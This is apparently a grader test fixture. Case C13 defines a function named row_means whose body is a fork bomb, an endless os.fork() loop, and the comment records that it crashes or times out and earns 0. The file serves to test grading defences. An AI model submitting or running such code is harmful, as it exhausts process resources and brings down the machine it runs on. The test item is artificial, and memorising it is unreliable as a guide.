# C13 [from kernel]: a fork bomb -> row_means crashed or timed out, Counter missing; earns 0
import os


def row_means(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
